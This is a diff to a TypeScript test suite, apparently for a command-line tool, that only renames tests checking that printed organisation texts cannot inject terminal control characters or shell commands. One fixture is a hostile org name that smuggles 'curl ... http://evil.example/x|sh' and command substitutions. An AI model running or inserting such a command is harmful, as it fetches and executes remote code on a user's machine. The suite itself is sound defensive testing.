@@ -32,10 +32,10 @@ function allTexts(): Array<readonly [key: string, text: string]> {
   });
 }
 
-describe('attack: texts of an org steer the terminal, forge lines or hide', () => {
+describe('attack: texts of an org control the terminal, forge lines or hide', () => {
   const texts = allTexts();
 
-  it('no text of ours obeys a value that stands in it', () => {
+  it('no value in a text of ours controls the terminal', () => {
     expect(texts.length).to.be.greaterThan(1000);
     for (const [key, text] of texts) {
       for (const value of hostile) {
@@ -45,7 +45,7 @@ describe('attack: texts of an org steer the terminal, forge lines or hide', () =
     }
   });
 
-  it('any value is one line, and its signs can be seen', () => {
+  it('any value is one line, and its special characters are visible', () => {
     fc.assert(
       fc.property(anyHostile, (value) => {
         expect(visible(value)).not.to.match(orders).and.not.include('\n');
@@ -60,7 +60,7 @@ describe('attack: texts of an org steer the terminal, forge lines or hide', () =
     expect(visiblePage(page)).to.equal(page);
   });
 
-  it('a result is shown without orders, in names and values, and stays what it is', () => {
+  it('a result has no control characters when shown, in names and values, and stays unchanged', () => {
     const when = new Date(0);
     expect(visibleData({ apps: [{ label: 'a\nb', 'k\u001b': 1, none: null, when }] })).to.deep.equal({
       apps: [{ label: 'a␊b', 'k␛': 1, none: null, when }],
@@ -78,7 +78,7 @@ describe('attack: texts of an org steer the terminal, forge lines or hide', () =
   });
 });
 
-describe('attack: a name runs in the shell of whoever copies a command', () => {
+describe('attack: a name runs in the shell of a user who copies a command', () => {
   const texts = allTexts();
   const name = 'Acme;curl -s http://evil.example/x|sh #$(id)`id`\'"';
 
@@ -94,7 +94,7 @@ describe('attack: a name runs in the shell of whoever copies a command', () => {
     }
   });
 
-  it('what is harmless stays as it is', () => {
+  it('harmless values stay unchanged', () => {
     for (const plain of ['Acme_Sync', 'admin@acme.com', 'force-app/main', '', 'https://a.example/cb']) {
       expect(shellWord(plain)).to.equal(plain);
     }
